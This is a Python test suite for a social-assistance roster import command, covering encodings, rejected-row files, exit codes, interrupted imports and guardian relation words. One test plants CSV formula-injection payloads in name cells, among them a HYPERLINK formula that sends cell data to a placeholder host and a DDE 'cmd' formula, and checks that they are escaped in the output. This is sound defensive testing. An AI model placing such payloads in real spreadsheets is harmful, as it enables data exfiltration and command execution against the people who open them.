"""`care import persons` as an officer runs it: files, encodings, the
rejected file, exit codes, and an import killed midway."""
import csv
import datetime as dt
import io
import json
import os
import random
import re
import signal
import subprocess
import sys
import tempfile
import unittest

from tests.support import CareDatabase, environment

sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(
                os.path.abspath(__file__))), 'scripts'))
from care_cli import demo_county  # noqa: E402
from trytond.modules.social_assistance.identity import (  # noqa: E402
    check_character)

SEED = 7
SUMMARY = re.compile(
    r'^persons: (\d+) created, (\d+) updated, (\d+) unchanged, '
    r'(\d+) rejected(?:, (\d+) warnings)?$', re.M)
# The relations of issue 14 as rosters write them, with their categories,
# and three words no table knows (data: no Chinese literal in Python)
KINSHIP = os.path.join(os.path.dirname(os.path.dirname(
            os.path.abspath(__file__))), 'modules', 'social_assistance',
    'tests', 'kinship_roster.json')
GUARDIANS = '''
Person = pool.get('social_assistance.person')
result = {p.id_number: [(g.relation_text, g.relation, g.role)
        for g in p.guardians]
    for p in Person.search([('id_number', 'in', params['numbers'])])}
'''

CREATE_DIVISIONS = '''
import random
from care_cli import demo, demo_county
demo._create_divisions(pool, demo_county.divisions(
        random.Random(params['seed'])))
'''
COUNT_PERSONS = '''
result = pool.get('social_assistance.person').search_count([])
'''


def summary(process, warnings=False):
    """(created, updated, unchanged, rejected) of the summary line, and the
    warnings when asked"""
    match = SUMMARY.search(process.stdout)
    assert match, process.stdout + process.stderr
    counts = tuple(int(g or 0) for g in match.groups())
    return counts if warnings else counts[:4]


class ImportPersonsTestCase(unittest.TestCase):

    @classmethod
    def setUpClass(cls):
        cls.db = CareDatabase()
        cls.db.create()
        cls.db.python(CREATE_DIVISIONS, seed=SEED)
        cls.rng = random.Random(SEED)
        cls.county = demo_county.divisions(cls.rng)

    @classmethod
    def tearDownClass(cls):
        cls.db.drop()

    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix='care-import-')

    def roster(self, count, name='persons.csv'):
        path = os.path.join(self.tmp, name)
        demo_county.write_roster(path, demo_county.roster(
                self.rng, count, self.county, dt.date.today()))
        return path

    def persons(self):
        return self.db.python(COUNT_PERSONS)

    def test_encodings_and_xlsx_are_one_roster(self):
        "The same roster as UTF-8, GB18030 and XLSX: stored once"
        utf8 = self.roster(40)
        with open(utf8, encoding='utf-8-sig') as file:
            rows = list(csv.reader(file))
        gb18030 = os.path.join(self.tmp, 'gb.csv')
        with open(gb18030, 'w', encoding='gb18030', newline='') as file:
            csv.writer(file).writerows(rows)
        import openpyxl
        book = openpyxl.Workbook()
        for row in rows:
            book.active.append(row)
        xlsx = os.path.join(self.tmp, 'persons.xlsx')
        book.save(xlsx)

        before = self.persons()
        first = self.db.care('import', 'persons', utf8)
        self.assertEqual(first.returncode, 0, first.stderr)
        self.assertEqual(summary(first), (40, 0, 0, 0))
        for path in [gb18030, xlsx, utf8]:
            with self.subTest(path=path):
                again = self.db.care('import', 'persons', path)
                self.assertEqual(again.returncode, 0, again.stderr)
                self.assertEqual(summary(again), (0, 0, 40, 0))
        self.assertEqual(self.persons(), before + 40)

    def test_rejected_rows(self):
        "Bad rows go to the rejected file with line and reason; exit code 3"
        path = self.roster(5)
        with open(path, encoding='utf-8-sig') as file:
            rows = list(csv.reader(file))
        header = rows[0]
        number = header.index(demo_county.roster_format()[
                'columns']['id_number'][0])
        start = header.index(demo_county.roster_format()[
                'columns']['start_date'][0])
        rows[2][number] = rows[2][number][:17] + (
            '0' if rows[2][number][17] != '0' else '1')  # line 3
        rows[4][start] = '2023-02-30'  # line 5
        rows.insert(5, [''] * len(header))  # a blank line 6 is skipped
        rows.append(list(rows[1]))  # line 8 repeats line 2
        with open(path, 'w', encoding='utf-8-sig', newline='') as file:
            csv.writer(file).writerows(rows)

        process = self.db.care('import', 'persons', path)
        self.assertEqual(process.returncode, 3, process.stderr)
        self.assertEqual(summary(process), (3, 0, 0, 3))
        rejected_path = os.path.join(self.tmp, 'persons.rejected.csv')
        with open(rejected_path, 'rb') as file:
            self.assertTrue(file.read(3) == b'\xef\xbb\xbf', 'BOM expected')
        with open(rejected_path, encoding='utf-8-sig') as file:
            rejected = list(csv.reader(file))
        self.assertEqual(rejected[0][:len(header)], header)
        self.assertEqual(len(rejected[0]), len(header) + 2)
        self.assertEqual([r[-2] for r in rejected[1:]], ['3', '5', '8'])
        self.assertEqual(rejected[1][:len(header)], rows[2])
        self.assertTrue(all(r[-1] for r in rejected[1:]))

        # Corrected, the file stores the rest and the rejected file goes
        rows[2][number] = rows[2][number][:17] + check_character(
            rows[2][number][:17])
        rows[4][start] = '2023-02-28'
        rows.pop()
        with open(path, 'w', encoding='utf-8-sig', newline='') as file:
            csv.writer(file).writerows(rows)
        process = self.db.care('import', 'persons', path)
        self.assertEqual(process.returncode, 0, process.stderr)
        self.assertEqual(summary(process), (2, 0, 3, 0))
        self.assertFalse(os.path.exists(rejected_path))

    def test_unusable_input(self):
        "A missing file or a missing required column: exit code 2, nothing"
        before = self.persons()
        missing = self.db.care('import', 'persons',
            os.path.join(self.tmp, 'nowhere.csv'))
        self.assertEqual(missing.returncode, 2)
        self.assertIn('nowhere.csv', missing.stderr)

        path = self.roster(3)
        with open(path, encoding='utf-8-sig') as file:
            rows = list(csv.reader(file))
        name_column = rows[0].index(demo_county.roster_format()[
                'columns']['name'][0])
        for row in rows:
            del row[name_column]
        with open(path, 'w', encoding='utf-8-sig', newline='') as file:
            csv.writer(file).writerows(rows)
        process = self.db.care('import', 'persons', path)
        self.assertEqual(process.returncode, 2)
        self.assertIn(demo_county.roster_format()['columns']['name'][0],
            process.stderr)
        self.assertEqual(self.persons(), before)

    def test_killed_import_stores_nothing_then_everything(self):
        "An import killed midway leaves no row; run again, each row once"
        path = self.roster(2500)
        before = self.persons()
        with subprocess.Popen(self.db.command('import', 'persons', path),
                env=environment(), stdout=subprocess.DEVNULL,
                stderr=subprocess.PIPE, text=True) as process:
            # Progress lines come on stderr after each stored chunk
            for line in process.stderr:
                if line.startswith('persons.csv: ') and not line.startswith(
                        'persons.csv: 0/'):
                    break
            process.send_signal(signal.SIGKILL)
            process.wait(timeout=60)
        self.assertEqual(process.returncode, -signal.SIGKILL)
        self.assertEqual(self.persons(), before)

        again = self.db.care('import', 'persons', path)
        self.assertEqual(again.returncode, 0, again.stderr)
        self.assertEqual(summary(again), (2500, 0, 0, 0))
        self.assertEqual(self.persons(), before + 2500)

    def column(self, field):
        return demo_county.roster_format()['columns'][field][0]

    def test_one_bad_cell_rejects_its_row_only(self):
        """A cell over the csv module's limit, a NUL, bytes that are no text,
        dates at the ends of the calendar, an identity number of 10,000
        characters: each its row rejected with a reason naming the column
        (and the limit), the good rows around them stored, exit code 3"""
        path = self.roster(10)
        with open(path, encoding='utf-8-sig') as file:
            rows = list(csv.reader(file))
        header = rows[0]
        at = {f: header.index(self.column(f))
            for f in ['name', 'address', 'start_date', 'id_number']}
        garbage = 'GARBAGE-BYTES'
        cases = [  # line, field, value, words of the reason
            (3, 'name', 'x' * 140000, [self.column('name'), '100']),
            (4, 'address', '\u71d5\x00\u5e97', [self.column('address'),
                    'NUL']),
            (5, 'start_date', '0001-01-01', [self.column('start_date'),
                    '1900', '2100']),
            (6, 'start_date', '9999-12-31', [self.column('start_date'),
                    '2100']),
            (7, 'name', garbage, [self.column('name'), 'NUL']),
            (8, 'id_number', '3' * 10000, [self.column('id_number'),
                    '200']),
            ]
        for line, field, value, _ in cases:
            rows[line - 1][at[field]] = value
        text = io.StringIO(newline='')
        csv.writer(text).writerows(rows)
        with open(path, 'wb') as file:
            file.write(text.getvalue().encode('utf-8').replace(
                    garbage.encode(), b'\xff\xfe\x80\x81'))
        before = self.persons()

        process = self.db.care('import', 'persons', path)
        self.assertEqual(process.returncode, 3, process.stderr)
        self.assertNotIn('Traceback', process.stderr)
        self.assertEqual(summary(process), (4, 0, 0, len(cases)))
        self.assertEqual(self.persons(), before + 4)
        # The rejected file holds the long cell as it came
        limit = csv.field_size_limit(1 << 20)
        self.addCleanup(csv.field_size_limit, limit)
        with open(os.path.join(self.tmp, 'persons.rejected.csv'),
                encoding='utf-8-sig', newline='') as file:
            rejected = list(csv.reader(file))
        self.assertEqual([r[-2] for r in rejected[1:]],
            [str(line) for line, *_ in cases])
        for row, (line, field, value, words) in zip(rejected[1:], cases):
            for word in words:
                self.assertIn(word, row[-1])
        # Bytes that were no text come back replaced
        self.assertEqual(rejected[5][at['name']], '\ufffd' * 4)

    def test_not_text_is_unusable(self):
        "A file that is no text in any accepted encoding: exit code 2"
        path = os.path.join(self.tmp, 'persons.csv')
        with open(path, 'wb') as file:
            file.write(b'\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00'
                b'\x01\x00\xff\xd8\xff\xe0' * 20)
        before = self.persons()
        process = self.db.care('import', 'persons', path)
        self.assertEqual(process.returncode, 2, process.stderr)
        self.assertIn('GB18030', process.stderr)
        self.assertRegex(process.stderr, '[\u4e00-\u9fff]{4}')
        self.assertNotIn('Traceback', process.stderr)
        self.assertEqual(self.persons(), before)

    def test_formulas_escaped_in_rejected_file(self):
        "Cells written as formulas come back as text in the rejected file"
        path = self.roster(6)
        with open(path, encoding='utf-8-sig') as file:
            rows = list(csv.reader(file))
        header = rows[0]
        name = header.index(self.column('name'))
        start = header.index(self.column('start_date'))
        formulas = ['=HYPERLINK("http://x.example/?"&A1,"click")',
            "=cmd|' /C calc'!A0", '+SUM(1+1)', '@SUM(1+1)', '-1+2']
        for row, formula in zip(rows[1:], formulas):
            row[name] = formula
            row[start] = '2023-02-30'
        with open(path, 'w', encoding='utf-8-sig', newline='') as file:
            csv.writer(file).writerows(rows)
        process = self.db.care('import', 'persons', path)
        self.assertEqual(process.returncode, 3, process.stderr)
        with open(os.path.join(self.tmp, 'persons.rejected.csv'),
                encoding='utf-8-sig', newline='') as file:
            rejected = list(csv.reader(file))
        self.assertEqual([r[name] for r in rejected[1:]],
            ["'" + f for f in formulas])

    def test_relations_as_written(self):
        """Every relation of issue 14 as a county's roster writes it
        (grandmother, aunt, villagers' committee ...) and three words no
        table knows: every
        person stored, each guardian with its category, role and words; the
        unknown words counted as warnings and written with their line to
        persons.warnings.csv; exit code 0"""
        with open(KINSHIP, encoding='utf-8') as file:
            kinship = json.load(file)
        words = list(kinship['known']) + kinship['unknown']
        roles = list(kinship['roles'])
        path = self.roster(len(words), name='kinship.csv')
        with open(path, encoding='utf-8-sig') as file:
            rows = list(csv.reader(file))
        header = rows[0]
        at = {f: header.index(self.column(f)) for f in ['id_number',
                'guardian_name', 'guardian_relation', 'guardian_role',
                'death_date']}
        for i, (row, word) in enumerate(zip(rows[1:], words)):
            row[at['guardian_name']] = row[at['guardian_name']] or 'G'
            row[at['guardian_relation']] = word
            row[at['guardian_role']] = roles[i % len(roles)]
        with open(path, 'w', encoding='utf-8-sig', newline='') as file:
            csv.writer(file).writerows(rows)
        before = self.persons()

        process = self.db.care('import', 'persons', path)
        self.assertEqual(process.returncode, 0, process.stderr)
        self.assertEqual(summary(process, warnings=True),
            (len(words), 0, 0, 0, len(kinship['unknown'])))
        self.assertIn(f', {len(kinship["unknown"])} warnings',
            process.stdout)
        self.assertEqual(self.persons(), before + len(words))
        numbers = [row[at['id_number']] for row in rows[1:]]
        stored = self.db.python(GUARDIANS, numbers=numbers)
        for i, (number, word) in enumerate(zip(numbers, words)):
            with self.subTest(word=word):
                self.assertEqual(stored[number], [[word,
                            kinship['known'].get(word, 'other'),
                            kinship['roles'][roles[i % len(roles)]]]])
        with open(os.path.join(self.tmp, 'kinship.warnings.csv'),
                encoding='utf-8-sig') as file:
            warned = list(csv.reader(file))
        first_unknown = len(kinship['known']) + 2
        self.assertEqual([r[-2] for r in warned[1:]], [str(line)
                for line in range(first_unknown, len(words) + 2)])
        for row, word in zip(warned[1:], kinship['unknown']):
            self.assertIn(word, row[-1])
        self.assertFalse(os.path.exists(
                os.path.join(self.tmp, 'kinship.rejected.csv')))


if __name__ == '__main__':
    unittest.main()
